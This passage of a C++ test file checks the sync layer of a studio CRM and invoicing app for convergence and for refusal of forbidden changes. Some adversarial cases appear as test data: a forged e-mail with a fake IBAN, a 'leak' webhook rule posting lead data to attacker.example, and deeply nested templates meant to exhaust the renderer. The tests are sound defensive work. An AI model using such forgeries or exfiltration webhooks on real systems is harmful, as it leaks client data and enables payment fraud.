    Stmt(a.db(), "INSERT INTO doc_links(token, kind, doc_id, lead_id, created_at) VALUES ('chosen-token-chosen-token', 'invoice', ?1, ?2,"
                 " '2026-11-27T10:00:00Z')").bind(1, inv[1]).bind(2, lead).step();
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    std::set<std::string> refused;
    for (const auto& x : r.refusals) refused.insert(x.table + "." + x.column);
    for (const char* col : {"invoices.snapshot_html", "invoices.total_minor", "invoices.status", "payments.amount_minor", "doc_links.token"})
        CHECK_MESSAGE(refused.count(col), col);
    CHECK(server.t.text(inv_q.c_str()) == inv_before);
    CHECK(server.t.count("SELECT count(*) FROM doc_links WHERE token = 'chosen-token-chosen-token'") == 0);
    CHECK(server.t.count("SELECT amount_minor FROM payments WHERE reference = 'BANK-1'") == 1000);
    CHECK(server.t.text(("SELECT status FROM invoices WHERE id = '" + inv[0] + "'").c_str()) == "partially_paid");
    pull(server, a);
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(a.t.text(inv_q.c_str()) == inv_before);
    (void)before;
}

TEST_CASE("sync: a device cannot make the server send an e-mail of its own, nor rewrite one") {
    Replica server(true), a(false);
    std::string lead = new_lead(server.db(), "Claire Dubois");
    Stmt(server.db(), "INSERT INTO outbox(id, lead_id, rule, occasion, channel, recipient, subject, body, status, due_at, created_at)"
                      " VALUES ('m-1', ?1, 'brief_link', 'lead:x', 'email', 'claire@example.fr', 'Brief', 'https://studio.test/c/x',"
                      " 'failed', '2026-11-26T10:00:00Z', '2026-11-26T10:00:00Z')").bind(1, lead).step();
    pull(server, a);
    // A forged message, and a real one redirected to another address with another text.
    Stmt(a.db(), "INSERT INTO outbox(id, lead_id, rule, occasion, channel, recipient, subject, body, status, due_at, created_at)"
                 " VALUES ('forged', ?1, 'x', 'y', 'email', 'victim@example.org', 'Pay here', 'IBAN FR00 EVIL', 'queued',"
                 " '2026-11-26T10:00:00Z', '2026-11-26T10:00:00Z')").bind(1, lead).step();
    Stmt(a.db(), "UPDATE outbox SET recipient = 'victim@example.org', body = 'IBAN FR00 EVIL', status = 'queued' WHERE id = 'm-1'").step();
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    std::set<std::string> refused;
    for (const auto& x : r.refusals) refused.insert(x.table + "." + x.column);
    for (const char* col : {"outbox.id", "outbox.recipient", "outbox.body"}) CHECK_MESSAGE(refused.count(col), col);
    CHECK(server.t.count("SELECT count(*) FROM outbox WHERE id = 'forged'") == 0);
    // "Send again" from the device stands: the same text to the same address.
    CHECK(server.t.text("SELECT status || ' ' || recipient || ' ' || body FROM outbox WHERE id = 'm-1'") ==
          "queued claire@example.fr https://studio.test/c/x");
    pull(server, a);
    CHECK(dump(a.db()) == dump(server.db()));
}

TEST_CASE("sync: only the owner's device changes the notification rules") {
    Replica server(true), a(false);
    pull(server, a);
    automation::set_rule(a.db(), json{{"code", "brief_reminder"}, {"enabled", false}}, "2026-11-26T10:00:00Z");
    automation::set_rule(a.db(), json{{"code", "leak"}, {"spec", {{"trigger", {{"event", "lead_created"}}}, {"channel", "webhook"},
                                                                 {"url", "https://attacker.example/x"}, {"secret", "0123456789abcdef"}}}},
                         "2026-11-26T10:00:00Z");
    sync::ApplyOptions manager;
    manager.owner = false;
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes(), manager);
    std::set<std::string> refused;
    for (const auto& x : r.refusals) refused.insert(x.table + "." + x.column);
    CHECK(refused.count("rules.enabled"));
    CHECK(refused.count("rules.code"));
    CHECK(server.t.count("SELECT enabled FROM rules WHERE code = 'brief_reminder'") == 1);
    CHECK(server.t.count("SELECT count(*) FROM rules WHERE code = 'leak'") == 0);
    pull(server, a);
    CHECK(dump(a.db()) == dump(server.db()));
    // The owner's device may.
    automation::set_rule(a.db(), json{{"code", "brief_reminder"}, {"enabled", false}}, "2026-11-26T11:00:00Z");
    sync::apply(server.db(), a.own_changes());
    CHECK(server.t.count("SELECT enabled FROM rules WHERE code = 'brief_reminder'") == 0);
}

TEST_CASE("sync: a device that joins shows the studio's details the server had before it ever synced") {
    // The server's data predates sync (seeded, then attached): its clocks are
    // as old as a new device's defaults. The device still takes the server's.
    for (int round = 0; round < 4; ++round) {
        TestDb st;
        seed_demo(st.db);
        install_defaults(st.db, kInstalled);
        sync::attach(st.db);
        Replica device(false);
        sync::ApplyResult up = sync::apply(st.db, device.own_changes());
        (void)up;
        sync::ExportOptions o;
        o.skip_device = sync::device_id(device.db());
        sync::apply(device.db(), sync::export_changes(st.db, o));
        CHECK(studio_details(device.db()).name == "Студия «Атлас»");
        CHECK(studio_details(st.db).name == "Студия «Атлас»");
        CHECK(dump(device.db()) == dump(st.db));
    }
}

TEST_CASE("sync: a device that joins never overwrites the studio's details with its own first-start defaults") {
    Replica server(true);
    StudioDetails st = studio_details(server.db());
    st.name = "Студия «Атлас»";
    st.legal_name = "ИП Атласов А. А.";
    st.tax_id = "7707083893";
    st.bank = "АО «Банк»";
    st.bik = "044525974";
    st.account = "40802810900001234567";
    save_studio(server.db(), st);
    const std::string price_q = "SELECT body_json FROM price_lists WHERE currency = 'RUB' ORDER BY version DESC LIMIT 1";
    set_price_list_tax(server.db(), "RUB", "vat_included", 2000, "2026-11-21T09:00:00Z");
    const std::string server_prices = server.t.text(price_q.c_str());
    // Devices made later, each with its own defaults, connect one by one.
    for (int round = 0; round < 2; ++round) {
        Replica device(false);
        push(device, server);
        pull(server, device);
        StudioDetails s = studio_details(server.db()), d = studio_details(device.db());
        CHECK(s.name == "Студия «Атлас»");
        CHECK(s.tax_id == "7707083893");
        CHECK(s.account == "40802810900001234567");
        CHECK(d.name == "Студия «Атлас»");
        CHECK(d.legal_name == "ИП Атласов А. А.");
        CHECK(d.bank == "АО «Банк»");
        CHECK(server.t.text(price_q.c_str()) == server_prices);
        CHECK(device.t.text(price_q.c_str()) == server_prices);
        CHECK(server.t.count("SELECT count(*) FROM studio") == 1);
        CHECK(dump(device.db()) == dump(server.db()));
    }
    // A device used alone before it connects keeps its real edits.
    Replica alone(false);
    StudioDetails mine = studio_details(alone.db());
    mine.phone = "+7 812 000-00-00";
    save_studio(alone.db(), mine);
    std::string lead = new_lead(alone.db(), "Offline Client");
    push(alone, server);
    pull(server, alone);
    CHECK(studio_details(server.db()).phone == "+7 812 000-00-00");
    CHECK(studio_details(server.db()).tax_id == "7707083893");
    CHECK(server.t.count(("SELECT count(*) FROM leads WHERE id = '" + lead + "'").c_str()) == 1);
    CHECK(dump(alone.db()) == dump(server.db()));
}

TEST_CASE("sync: a template that cannot render or JSON nested too deep is refused, and the replica converges") {
    Replica server(true), a(false);
    std::string lead = new_lead(a.db(), "Anna");
    push(a, server);
    pull(server, a);
    const std::string body_q = "SELECT body FROM templates WHERE kind = 'proposal' AND lang = 'en' ORDER BY version DESC LIMIT 1";
    const std::string good = server.t.text(body_q.c_str());
    std::string deep_tpl;
    for (int i = 0; i < 20000; ++i) deep_tpl += "{{#a}}";
    for (int i = 0; i < 20000; ++i) deep_tpl += "{{/a}}";
    std::string deep_json;
    for (int i = 0; i < 100; ++i) deep_json += "[";
    for (int i = 0; i < 100; ++i) deep_json += "]";
    // Written with plain SQL on the replica: no check on the way in.
    Stmt(a.db(), "UPDATE templates SET body = ?1 WHERE kind = 'proposal' AND lang = 'en'").bind(1, deep_tpl).step();
    Stmt(a.db(), "UPDATE leads SET utm_json = ?1 WHERE id = ?2").bind(1, "{\"utm_source\":" + deep_json + "}").bind(2, lead).step();
    // A lead new to the server that arrives with such a value stands with '{}'.
    std::string lead2 = new_lead(a.db(), "Boris");
    Stmt(a.db(), "UPDATE leads SET utm_json = ?1 WHERE id = ?2").bind(1, deep_json).bind(2, lead2).step();
    Stmt(a.db(), "INSERT INTO templates(id, kind, code, lang, version, body, updated_at) VALUES ('t-new', 'invoice', 'default', 'fr', 99,"
                 " '{{#a}}unclosed', '2026-11-24T10:00:00Z')").step();
    // A price list and a brief template that the settings screens would refuse.
    const std::string price_q = "SELECT body_json FROM price_lists WHERE currency = 'RUB' ORDER BY version DESC LIMIT 1";
    const std::string brief_q = "SELECT body_json FROM brief_templates WHERE code = 'corporate' ORDER BY version DESC LIMIT 1";
    const std::string good_prices = server.t.text(price_q.c_str()), good_brief = server.t.text(brief_q.c_str());
    Stmt(a.db(), "UPDATE price_lists SET body_json = '{\"currency\": \"RUB\", \"roles\": 5}' WHERE currency = 'RUB'").step();
    Stmt(a.db(), "UPDATE brief_templates SET body_json = json_set(body_json, '$.sections', json('[]')) WHERE code = 'corporate'").step();
    sync::ApplyResult r = sync::apply(server.db(), a.own_changes());
    std::set<std::string> reasons;
    for (const auto& x : r.refusals) reasons.insert(x.table + "." + x.column + ": " + x.reason);
    auto has = [&](const std::string& prefix) {
        for (const auto& x : reasons)
            if (x.rfind(prefix, 0) == 0) return true;
        return false;
    };
    CHECK(has("templates.body: the template cannot be used: render: line 1: sections nested deeper than 32 levels"));
    CHECK(has("templates.body: the template cannot be used: render: line 1: Unclosed section"));
    CHECK(has("leads.utm_json: not JSON, or nested deeper than 64 levels"));
    CHECK(has("price_lists.body_json: the price list cannot be used: price_list: "));
    CHECK(has("brief_templates.body_json: the brief template cannot be used: brief_template: sections"));
    CHECK(server.t.text(price_q.c_str()) == good_prices);
    CHECK(server.t.text(brief_q.c_str()) == good_brief);
    CHECK(server.t.text(body_q.c_str()) == good);
    CHECK(server.t.text(("SELECT utm_json FROM leads WHERE id = '" + lead + "'").c_str()) == "{}");
    CHECK(server.t.text(("SELECT utm_json FROM leads WHERE id = '" + lead2 + "'").c_str()) == "{}");
    // The new template row stays, with the body of the version it replaces.
    CHECK(server.t.text("SELECT body = (SELECT body FROM templates WHERE kind = 'invoice' AND lang = 'fr' AND id != 't-new'"
                        " ORDER BY version DESC LIMIT 1) FROM templates WHERE id = 't-new'") == "1");
    pull(server, a);
    CHECK(a.t.text(body_q.c_str()) == good);
    CHECK(dump(a.db()) == dump(server.db()));
}

TEST_CASE("sync: two replicas take the same estimate version offline; the later gets the next") {
    Replica server(true), a(false), b(false);
    std::string lead = new_lead(a.db(), "Anna");
    save_brief(a.db(), lead, "corporate", kAnswers, false, "anna", "2026-11-23T10:00:00Z");
    push(a, server);
    pull(server, b);
    estimate_lead(a.db(), lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    estimate_lead(b.db(), lead, json{{"start_date", "2026-12-02"}}, "boris", "2026-11-23T11:01:00Z");
    push(a, server);
    push(b, server);
    CHECK(server.t.text("SELECT group_concat(version) FROM (SELECT version FROM estimates ORDER BY version)") == "1,2");
    CHECK(server.t.count("SELECT count(*) FROM sync_pending") == 0);
    for (int i = 0; i < 2; ++i) {
        pull(server, a);
        pull(server, b);
    }
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));
}

TEST_CASE("sync: property: random edits, conveyor steps and joining devices; batches duplicated, split, shuffled; all converge") {
    // 1085: a payment that stood on a device, moved by the server to an
    // invoice that was deleted meanwhile, stayed on that device as it was
    // while the server had parked it.
    std::vector<uint32_t> seeds = {20261126, 1085};
    if (const char* n = std::getenv("ATELIER_SYNC_SEEDS")) {
        seeds.clear();
        for (uint32_t s = 1; s <= (uint32_t)std::atoi(n); ++s) seeds.push_back(s);
    }
    if (const char* one = std::getenv("ATELIER_SYNC_SEED")) seeds = {(uint32_t)std::atoi(one)};
    for (uint32_t seed : seeds) {
        CAPTURE(seed);
        std::mt19937 rng(seed);
        seed_ids(seed);  // ids and device ids follow the seed: a failure replays
        auto pick = [&](size_t n) { return (size_t)(rng() % n); };
        Replica server(true);
        std::vector<std::unique_ptr<Replica>> rs;
        for (int i = 0; i < 3; ++i) rs.push_back(std::make_unique<Replica>(false));
        std::vector<std::string> network;  // bundles on their way to the server

        auto leads_of = [](Replica& r) {
            std::vector<std::string> ids;
            Stmt q(r.db(), "SELECT id FROM leads ORDER BY id");
            while (q.step()) ids.push_back(q.text(0));
            return ids;
        };
        auto split = [&](const std::string& bundle) {
            json b = json::parse(bundle);
            json changes = b["changes"];
            size_t i = 0;
            while (i < changes.size()) {
                size_t n = 1 + pick(std::max<size_t>(1, changes.size() / 2 + 1));
                json part = b;
                part["changes"] = json::array();
                for (size_t k = i; k < std::min(changes.size(), i + n); ++k) part["changes"].push_back(changes[k]);
                network.push_back(part.dump());
                if (pick(4) == 0) network.push_back(part.dump());  // delivered twice
                i += n;
            }
        };
        auto deliver = [&](size_t n) {
            std::shuffle(network.begin(), network.end(), rng);
            for (size_t k = 0; k < n && !network.empty(); ++k) {
                sync::apply(server.db(), network.back());
                network.pop_back();
            }
        };
        int day = 0;
        for (int step = 0; step < 120; ++step) {
            Replica& r = *rs[pick(rs.size())];
            std::vector<std::string> ids = leads_of(r);
            std::string at = "2026-11-2" + std::to_string(3 + (day++ % 6)) + "T1" + std::to_string(pick(10)) + ":00:00Z";
            try {
                switch (pick(14)) {
                    case 0:
                    case 1: new_lead(r.db(), "Client " + std::to_string(pick(1000)), at); break;
                    case 2:
                        if (!ids.empty())
                            exec(r.db(), ("UPDATE leads SET title = 'T" + std::to_string(pick(100)) + "', amount_minor = " +
                                          std::to_string(pick(100000)) + " WHERE id = '" + ids[pick(ids.size())] + "'")
                                             .c_str());
                        break;
                    case 3:
                        if (!ids.empty())
                            exec(r.db(), ("UPDATE clients SET notes = 'N" + std::to_string(pick(100)) +
                                          "' WHERE id IN (SELECT client_id FROM leads WHERE id = '" + ids[pick(ids.size())] + "')")
                                             .c_str());
                        break;
                    case 4:
                        if (!ids.empty() && pick(3) == 0)
                            exec(r.db(), ("DELETE FROM leads WHERE id = '" + ids[pick(ids.size())] + "'").c_str());
                        break;
                    case 5:
                        if (!ids.empty()) {
                            std::string l = ids[pick(ids.size())];
                            save_brief(r.db(), l, "corporate", kAnswers, false, "m", at);
                            estimate_lead(r.db(), l, json{{"start_date", "2026-12-01"}}, "m", at);
                        }
                        break;
                    case 6:
                        if (!ids.empty()) to_invoices(r.db(), ids[pick(ids.size())]);
                        break;
                    case 7: split(r.own_changes()); break;
                    case 8:
                        deliver(1 + pick(4));
                        if (pick(2) == 0) pull(server, r);
                        break;
                    case 9:
                        // A device joins with its own first-start defaults.
                        if (rs.size() < 5) {
                            rs.push_back(std::make_unique<Replica>(false));
                            split(rs.back()->own_changes());
                            pull(server, *rs.back());
                        }
                        break;
                    case 10: {
                        // A payment, possibly the same one recorded on two devices.
                        Stmt q(r.db(), "SELECT id, total_minor FROM invoices WHERE status IN ('issued', 'partially_paid') ORDER BY id");
                        std::vector<std::pair<std::string, int64_t>> open;
                        while (q.step()) open.push_back({q.text(0), q.int64(1)});
                        if (!open.empty()) {
                            auto& inv = open[pick(open.size())];
                            record_payment(r.db(), inv.first, inv.second, "PAY-" + inv.first.substr(0, 8), "2026-11-28", "", at);
                        }
                        break;
                    }
                    case 11:
                    case 12:
                    case 13: {
                        // Through the conveyor: a contract signed (its schedule's
                        // first payment issued), or a stage of the project done
                        // (the payments due at its end issued), on any device;
                        // mostly on leads that have a contract.
                        if (ids.empty()) break;
                        std::vector<std::string> with;
                        Stmt w(r.db(), "SELECT DISTINCT lead_id FROM contracts ORDER BY lead_id");
                        while (w.step()) with.push_back(w.text(0));
                        const std::string l = !with.empty() && pick(3) ? with[pick(with.size())] : ids[pick(ids.size())];
                        const Actor m{"m", "M", "app", false};
                        Stmt c(r.db(), "SELECT id, status FROM contracts WHERE lead_id = ?1 ORDER BY version DESC LIMIT 1");
                        c.bind(1, l);
                        if (!c.step()) {
                            save_brief(r.db(), l, "corporate", kAnswers, true, "m", at);
                            std::string est = estimate_lead(r.db(), l, json{{"start_date", "2026-12-01"}}, "m", at);
                            std::string prop = create_proposal(r.db(), est, "m", at);
                            accept_proposal(r.db(), prop, "Claire Dubois", "", at);
                            create_contract(r.db(), prop, "m", at);
                        } else if (c.text(1) == "accepted") {
                            conveyor::complete_stage(r.db(), l, pick(2) ? "design" : "launch", m, at);
                        } else {
                            conveyor::sign(r.db(), c.text(0), Acceptance{"paper", "Claire Dubois", "", ""}, m, at);
                        }
                        break;
                    }
                }
            } catch (const Error&) {
                // An operation the lead's state does not allow: nothing done.
            }
        }
        // Quiet: everything delivered, everyone pulls, until nothing moves.
        for (int round = 0; round < 3; ++round) {
            for (auto& r : rs) split(r->own_changes());
            deliver(network.size());
            for (auto& r : rs) pull(server, *r);
        }
        std::string want = dump(server.db());
        CHECK(server.t.count("SELECT count(*) FROM leads") > 0);
        for (size_t i = 0; i < rs.size(); ++i) {
            CHECK(sync::digest(rs[i]->db()) == sync::digest(server.db()));
            std::string got = dump(rs[i]->db());
            CHECK(got == want);
            if (got != want) {  // kept for diff -u
                std::string base = "/tmp/atelier-sync-" + std::to_string(seed);
                std::remove((base + "-server.db").c_str());
                std::remove((base + "-replica" + std::to_string(i) + ".db").c_str());
                exec(server.db(), ("VACUUM INTO '" + base + "-server.db'").c_str());
                exec(rs[i]->db(), ("VACUUM INTO '" + base + "-replica" + std::to_string(i) + ".db'").c_str());
                std::ofstream out(base + "-server.txt");
                out << want;
                Stmt pq(server.db(), "SELECT tbl, row_id, reason FROM sync_pending");
                while (pq.step()) out << "pending|" << pq.text(0) << "|" << pq.text(1) << "|" << pq.text(2) << "\n";
                std::ofstream(base + "-replica" + std::to_string(i) + ".txt") << got;
            }
        }
        // The conveyor's identities: at most one live contract per lead (so
        // per proposal); per live contract, one standing invoice per line of
        // its payment schedule, numbered in the schedule's order; one payment
        // per reference.
        CHECK(server.t.count("SELECT count(*) FROM (SELECT lead_id FROM contracts WHERE status NOT IN ('superseded', 'declined')"
                             " GROUP BY lead_id HAVING count(*) > 1)") == 0);
        CHECK(server.t.count("SELECT count(*) FROM contracts c WHERE c.status NOT IN ('superseded', 'declined') AND EXISTS"
                             " (SELECT 1 FROM invoices i WHERE i.contract_id = c.id) AND (SELECT count(*) FROM invoices i"
                             " WHERE i.contract_id = c.id AND i.status != 'void') != json_array_length(c.payment_schedule_json)") == 0);
        CHECK(server.t.count("SELECT count(*) FROM invoices a JOIN invoices b ON a.contract_id = b.contract_id AND a.position < b.position"
                             " WHERE a.status != 'void' AND b.status != 'void' AND a.number > b.number") == 0);
        CHECK(server.t.count("SELECT count(*) - count(DISTINCT reference) FROM payments") == 0);
        // A stage of a project is done once, whichever devices recorded it.
        CHECK(server.t.count("SELECT count(*) FROM (SELECT lead_id, json_extract(payload_json, '$.stage') FROM events"
                             " WHERE kind = 'stage_completed' GROUP BY 1, 2 HAVING count(*) > 1)") == 0);
        // A payment made against an invoice that was then withdrawn counts for
        // the standing invoice of the same line, once there is one.
        CHECK(server.t.count("SELECT count(*) FROM payments p JOIN invoices v ON v.id = p.invoice_id AND v.status = 'void'"
                             " JOIN invoices l ON l.lead_id = v.lead_id AND l.position = v.position AND l.status != 'void'") == 0);
        CHECK(server.t.count("SELECT count(*) FROM invoices i JOIN contracts c ON c.id = i.contract_id"
                             " WHERE c.status IN ('superseded', 'declined') AND i.status != 'void'") == 0);
        // Numbers: unique, and every number the server gave is 1..last, once.
        for (const char* series : {"invoice", "contract"}) {
            std::string table = std::string(series) + "s";
            CHECK(server.t.count(("SELECT count(number) - count(DISTINCT number) FROM " + table).c_str()) == 0);
            CHECK_MESSAGE(server.t.count(("SELECT count(*) FROM " + table + " WHERE number IS NULL AND status NOT IN ('void', 'superseded', 'draft')").c_str()) == 0,
                          server.t.text(("SELECT group_concat(status || ' ' || coalesce(position, '') || ' ' || contract_id || ' ' || (SELECT status FROM contracts c WHERE c.id = contract_id), '; ') FROM " + table + " WHERE number IS NULL").c_str()));
            std::string given = "SELECT count(DISTINCT json_extract(cells, '$.number')) FROM change_log WHERE tbl = '" + table +
                                "' AND device = atelier_device() AND json_extract(cells, '$.number') IS NOT NULL";
            std::string last = "SELECT coalesce(sum(last_value), 0) FROM number_series WHERE series = '" + std::string(series) + "'";
            CHECK(server.t.count(given.c_str()) == server.t.count(last.c_str()));
        }
    }
}

TEST_CASE("sync: an invoice issued offline whose reminders' moments passed before it synced still gets them, once") {
    Replica server(true), a(false);
    std::string lead = new_lead(server.db(), "Claire Dubois");
    exec(server.db(), ("UPDATE clients SET email = 'claire@example.fr' WHERE id = (SELECT client_id FROM leads WHERE id = '" + lead + "')").c_str());
    save_brief(server.db(), lead, "corporate", kAnswers, true, "anna", "2026-11-23T10:00:00Z");
    std::string est = estimate_lead(server.db(), lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    std::string prop = create_proposal(server.db(), est, "anna", "2026-11-23T11:05:00Z");
    accept_proposal(server.db(), prop, "Claire Dubois", "", "2026-11-24T15:30:00Z");
    std::string contract = create_contract(server.db(), prop, "anna", "2026-11-24T16:00:00Z");
    auto ids = create_invoices(server.db(), contract, "2026-11-25", 5, "anna", "2026-11-25T09:00:00Z");
    REQUIRE(ids.size() == 2);
    pull(server, a);
    // The planned balance is issued on the device, offline, due five working days later (2026-12-03).
    issue_invoice(a.db(), ids[1], "2026-11-26", 5, "anna", "2026-11-26T09:00:00Z");
    // The server evaluates its rules every day meanwhile.
    for (int day = 0; day < 15; ++day)
        automation::tick(server.db(), automation::add_seconds("2026-11-25T10:00:00Z", day * 86400), "https://studio.test");
    const std::string q = "SELECT group_concat(rule, ' ') FROM (SELECT rule FROM outbox WHERE occasion LIKE 'invoice:" + ids[1] + "%' ORDER BY due_at)";
    CHECK(server.t.text(q.c_str()) == "");
    // The device syncs on 2026-12-10: the due-date reminder and the first two
    // overdue levels have passed; each is written once, in order.
    push(a, server);
    automation::tick(server.db(), "2026-12-10T10:00:00Z", "https://studio.test");
    CHECK(server.t.text(q.c_str()) == "invoice_due invoice_overdue_1 invoice_overdue_2");
    automation::tick(server.db(), "2026-12-10T10:01:00Z", "https://studio.test");
    automation::tick(server.db(), "2026-12-16T10:00:00Z", "https://studio.test");
    CHECK(server.t.text(q.c_str()) == "invoice_due invoice_overdue_1 invoice_overdue_2");
    automation::tick(server.db(), "2026-12-17T10:00:00Z", "https://studio.test");
    CHECK(server.t.text(q.c_str()) == "invoice_due invoice_overdue_1 invoice_overdue_2 invoice_overdue_3");
}

TEST_CASE("sync: two devices that both complete the launch offline make one stage event, one balance invoice, one e-mail") {
    Replica server(true), a(false), b(false);
    const Actor anna{"anna", "Anna", "app", false}, boris{"boris", "Boris", "app", false};
    std::string lead = new_lead(server.db(), "Claire Dubois");
    exec(server.db(), ("UPDATE clients SET email = 'claire@example.fr' WHERE id = (SELECT client_id FROM leads WHERE id = '" + lead + "')").c_str());
    conveyor::save_brief(server.db(), lead, "corporate", kAnswers, true, anna, "2026-11-23T10:00:00Z");
    std::string est = conveyor::estimate(server.db(), lead, json{{"start_date", "2026-12-01"}}, anna, "2026-11-23T11:00:00Z").made["estimate_id"];
    std::string prop = conveyor::propose(server.db(), est, anna, "2026-11-23T11:05:00Z").made["proposal_id"];
    std::string contract = conveyor::accept(server.db(), prop, Acceptance{"phone", "Claire", "", ""}, anna, "2026-11-24T10:00:00Z").made["contract_id"];
    auto ids = conveyor::sign(server.db(), contract, Acceptance{"paper", "Claire", "", ""}, anna, "2026-11-25T10:00:00Z").made["invoice_ids"];
    REQUIRE(ids.size() == 2);
    automation::tick(server.db(), "2026-11-25T10:01:00Z", "https://studio.test");
    pull(server, a);
    pull(server, b);
    conveyor::complete_stage(a.db(), lead, "launch", anna, "2026-12-20T10:00:00Z");
    conveyor::complete_stage(b.db(), lead, "launch", boris, "2026-12-20T11:00:00Z");
    push(a, server);
    push(b, server);
    pull(server, a);
    pull(server, b);
    automation::tick(server.db(), "2026-12-20T11:01:00Z", "https://studio.test");
    CHECK(server.t.count(("SELECT count(*) FROM events WHERE lead_id = '" + lead + "' AND kind = 'stage_completed'").c_str()) == 1);
    const std::string balance = ids[1];
    CHECK(server.t.text(("SELECT status || ' ' || number FROM invoices WHERE id = '" + balance + "'").c_str()) == "issued 2026-0002");
    CHECK(server.t.count(("SELECT count(*) FROM outbox WHERE rule = 'invoice_link' AND occasion LIKE 'invoice:" + balance + "%'").c_str()) == 1);
    CHECK(server.t.count(("SELECT count(*) FROM outbox WHERE rule = 'invoice_link' AND lead_id = '" + lead + "'").c_str()) == 2);
    pull(server, a);
    pull(server, b);
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));
}

TEST_CASE("sync: a contract withdrawn, then signed on a device that had not seen it withdrawn, stands again with its invoices") {
    Replica server(true), a(false), b(false);
    std::string lead = new_lead(server.db(), "Claire Dubois", "2026-11-23T08:00:00Z");
    save_brief(server.db(), lead, "corporate", kAnswers, true, "anna", "2026-11-23T10:00:00Z");
    std::string est = estimate_lead(server.db(), lead, json{{"start_date", "2026-12-01"}}, "anna", "2026-11-23T11:00:00Z");
    std::string prop = create_proposal(server.db(), est, "anna", "2026-11-23T11:05:00Z");
    accept_proposal(server.db(), prop, "Claire Dubois", "", "2026-11-24T15:30:00Z");
    std::string first = create_contract(server.db(), prop, "anna", "2026-11-24T16:00:00Z");
    pull(server, a);
    pull(server, b);
    // B makes the first contract's invoices; they reach the server.
    auto invoices = create_invoices(b.db(), first, "2026-11-25", 5, "boris", "2026-11-25T09:00:00Z");
    REQUIRE(invoices.size() == 2);
    push(b, server);
    // A, offline, revises the offer: a new contract withdraws the first, and
    // the server voids the first one's invoices.
    std::string est2 = estimate_lead(a.db(), lead, json{{"start_date", "2026-12-08"}}, "anna", "2026-11-25T10:00:00Z");
    std::string prop2 = create_proposal(a.db(), est2, "anna", "2026-11-25T10:05:00Z");
    accept_proposal(a.db(), prop2, "Claire Dubois", "", "2026-11-25T10:30:00Z");
    std::string second = create_contract(a.db(), prop2, "anna", "2026-11-25T11:00:00Z");
    push(a, server);
    CHECK(server.t.text(("SELECT status FROM contracts WHERE id = '" + first + "'").c_str()) == "superseded");
    CHECK(server.t.count(("SELECT count(*) FROM invoices WHERE contract_id = '" + first + "' AND status != 'void'").c_str()) == 0);
    // B, which never saw the revision, records the client's signature of the
    // first contract on paper, later: that write wins, the first contract
    // stands again, and the second is withdrawn.
    accept_contract(b.db(), first, "Claire Dubois", "", "2026-11-26T10:00:00Z", "paper", "", "boris");
    push(b, server);
    for (int i = 0; i < 2; ++i) {
        pull(server, a);
        pull(server, b);
        push(a, server);
        push(b, server);
    }
    CHECK(server.t.text(("SELECT status FROM contracts WHERE id = '" + first + "'").c_str()) == "accepted");
    CHECK(server.t.text(("SELECT status FROM contracts WHERE id = '" + second + "'").c_str()) == "superseded");
    // Its invoices stand with it, one per line of its schedule: the advance
    // issued on signing, the balance still a draft.
    CHECK(server.t.text(("SELECT group_concat(status, ',') FROM (SELECT status FROM invoices WHERE contract_id = '" + first +
                         "' ORDER BY position)").c_str()) == "issued,draft");
    CHECK(server.t.count(("SELECT count(*) FROM invoices WHERE contract_id = '" + second + "' AND status != 'void'").c_str()) == 0);
    CHECK(dump(a.db()) == dump(server.db()));
    CHECK(dump(b.db()) == dump(server.db()));
}
